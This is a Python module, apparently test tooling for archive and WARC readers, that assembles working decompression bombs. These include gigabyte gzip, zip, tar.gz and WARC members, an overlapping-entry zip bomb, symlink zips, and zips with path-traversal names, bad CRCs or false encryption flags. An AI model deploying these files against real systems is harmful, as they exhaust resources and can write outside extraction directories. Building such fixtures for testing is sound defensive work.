"""Real decompression bombs, built in milliseconds: a gigabyte of zeros is ~1 MB of deflate data.

Deflating a gigabyte takes seconds, so the stream is assembled instead: after a full flush a
deflate compressor forgets everything before, hence the blocks it writes for 16 MB of zeros are
the same bytes wherever they stand, and 64 copies between a head and a final block make one
valid stream that inflates to 1 GiB (CRC-32 and sizes computed for real, so every reader
accepts the files until it decides to stop).
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zlib
from functools import cache

CHUNK = 16 * 1024 * 1024
GIB_CHUNKS = 64  # 64 x 16 MB = 1 GiB


@cache
def _zero_blocks() -> bytes:
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return co.compress(bytes(CHUNK)) + co.flush(zlib.Z_FULL_FLUSH)


@cache
def _zeros_crc(chunks: int) -> int:
    crc, block = 0, bytes(CHUNK)
    for _ in range(chunks):
        crc = zlib.crc32(block, crc)
    return crc


def deflate(head: bytes, chunks: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of head + chunks x 16 MB of zeros + tail: (stream, CRC-32, inflated size)."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH)
    last = co.compress(tail) + co.flush(zlib.Z_FINISH)
    crc = zlib.crc32(tail, _crc_after(head, chunks))
    return first + _zero_blocks() * chunks + last, crc, len(head) + chunks * CHUNK + len(tail)


def _crc_after(head: bytes, chunks: int) -> int:
    crc, block = zlib.crc32(head), bytes(CHUNK)
    if not head:
        return _zeros_crc(chunks)
    for _ in range(chunks):
        crc = zlib.crc32(block, crc)
    return crc


def gzip_member(head: bytes = b"", chunks: int = GIB_CHUNKS, tail: bytes = b"") -> bytes:
    """One gzip member inflating to head + zeros + tail."""
    stream, crc, size = deflate(head, chunks, tail)
    header = b"\x1f\x8b\x08\x00" + b"\x00" * 4 + b"\x02\xff"
    return header + stream + struct.pack("<II", crc, size & 0xFFFFFFFF)


def zip_bytes(members: list[tuple[str, bytes | int]]) -> bytes:
    """A zip of (name, data) members; an int instead of data is that many 16 MB chunks of zeros."""
    out = io.BytesIO()
    central = []
    for name, data in members:
        raw = name.encode("utf-8")
        if isinstance(data, int):
            stream, crc, size = deflate(b"", data, b"")
        else:
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            stream, crc, size = co.compress(data) + co.flush(), zlib.crc32(data), len(data)
        offset = out.tell()
        fields = (20, 0x800, 8, 0, 0x21, crc, len(stream), size, len(raw), 0)
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *fields) + raw + stream)
        central.append(_central_entry(raw, fields, offset))
    return _with_directory(out.getvalue(), central)


def _central_entry(raw: bytes, fields: tuple[int, ...], offset: int, external: int = 0) -> bytes:
    version, flags, method, mtime, mdate, crc, csize, size, nlen, _ = fields
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x031E, version, flags, method, mtime, mdate,
                       crc, csize, size, nlen, 0, 0, 0, 0, external, offset) + raw


def _with_directory(body: bytes, central: list[bytes]) -> bytes:
    directory = b"".join(central)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), len(directory), len(body), 0)
    return body + directory + end


def overlapping_zip(copies: int, chunks: int = 1) -> bytes:
    """A non-recursive zip bomb: `copies` directory entries that all point at one compressed
    member (what makes a 46 MB zip expand to petabytes)."""
    stream, crc, size = deflate(b"", chunks, b"")
    raw = b"kernel.html"
    fields = (20, 0x800, 8, 0, 0x21, crc, len(stream), size, len(raw), 0)
    body = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *fields) + raw + stream
    central = []
    for i in range(copies):
        name = f"copy{i:05d}.html".encode()
        central.append(_central_entry(name, (*fields[:8], len(name), 0), 0))
    return _with_directory(body, central)


def zip_symlink(name: str, target: str) -> bytes:
    """A zip whose one member is a Unix symbolic link (mode 0o120777) to `target`."""
    data = target.encode()
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = co.compress(data) + co.flush()
    raw = name.encode()
    fields = (20, 0x800, 8, 0, 0x21, zlib.crc32(data), len(stream), len(data), len(raw), 0)
    body = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *fields) + raw + stream
    return _with_directory(body, [_central_entry(raw, fields, 0, external=0o120777 << 16)])


def tar_gz(members: list[tuple[str, bytes | int]]) -> bytes:
    """A .tar.gz as one gzip member; an int instead of data is that many 16 MB chunks of zeros."""
    head = io.BytesIO()
    parts: list[tuple[bytes, int]] = []  # (bytes before a zero run, chunks of zeros)
    for name, data in members:
        info = tarfile.TarInfo(name)
        info.mtime = 0
        if isinstance(data, int):
            info.size = data * CHUNK
            head.write(info.tobuf(format=tarfile.GNU_FORMAT))
            parts.append((head.getvalue(), data))
            head = io.BytesIO()
        else:
            info.size = len(data)
            head.write(info.tobuf(format=tarfile.GNU_FORMAT) + data + bytes(-len(data) % 512))
    tail = head.getvalue() + bytes(1024)
    if not parts:
        return gzip.compress(tail, mtime=0)
    if len(parts) > 1:
        raise ValueError("one zero run per archive")
    (before, chunks), = parts
    return gzip_member(before, chunks, tail)


def warc_gz(records: list[tuple[str, bytes | int]]) -> bytes:
    """WARC response records, one gzip member each; an int payload is that many 16 MB of zeros."""
    out = []
    for i, (uri, payload) in enumerate(records):
        http = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        size = len(http) + (payload * CHUNK if isinstance(payload, int) else len(payload))
        head = (
            "WARC/1.0\r\nWARC-Type: response\r\n"
            f"WARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-{i:012d}>\r\n"
            f"WARC-Target-URI: {uri}\r\nWARC-Date: 2019-07-30T08:00:00Z\r\n"
            f"Content-Type: application/http; msgtype=response\r\nContent-Length: {size}\r\n\r\n"
        ).encode() + http
        if isinstance(payload, int):
            out.append(gzip_member(head, payload, b"\r\n\r\n"))
        else:
            out.append(gzip.compress(head + payload + b"\r\n\r\n", mtime=0))
    return b"".join(out)


def zip_flagged(members: list[tuple[str, bytes | int, str]]) -> bytes:
    """A zip like `zip_bytes` whose members also carry a hazard: (name, data, how) with `how` one of
    "file", "link" (a Unix symbolic link; data is the target), "encrypted" (the encryption flag
    set over plain data) or "bad_crc" (a wrong CRC-32). Names are stored as given (`..`, `/abs`)."""
    out = io.BytesIO()
    central = []
    for name, data, how in members:
        raw = name.encode("utf-8")
        if isinstance(data, int):
            stream, crc, size = deflate(b"", data, b"")
        else:
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            stream, crc, size = co.compress(data) + co.flush(), zlib.crc32(data), len(data)
        flags = 0x800 | (0x1 if how == "encrypted" else 0)
        if how == "bad_crc":
            crc ^= 0xFFFFFFFF
        offset = out.tell()
        fields = (20, flags, 8, 0, 0x21, crc, len(stream), size, len(raw), 0)
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *fields) + raw + stream)
        external = (0o120777 << 16) if how == "link" else 0
        central.append(_central_entry(raw, fields, offset, external=external))
    return _with_directory(out.getvalue(), central)


def warc_gz_record(index: int, uri: str, payload: bytes | int) -> bytes:
    """One WARC response record as its own gzip member, like those of `warc_gz`, with record id
    number `index` (so it can follow records numbered 0..index-1 by another writer)."""
    http = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    size = len(http) + (payload * CHUNK if isinstance(payload, int) else len(payload))
    head = (
        "WARC/1.0\r\nWARC-Type: response\r\n"
        f"WARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-{index:012d}>\r\n"
        f"WARC-Target-URI: {uri}\r\nWARC-Date: 2019-07-30T08:00:00Z\r\n"
        f"Content-Length: {size}\r\nContent-Type: application/http; msgtype=response\r\n\r\n"
    ).encode() + http
    if isinstance(payload, int):
        return gzip_member(head, payload, b"\r\n\r\n")
    return gzip.compress(head + payload + b"\r\n\r\n", mtime=0)
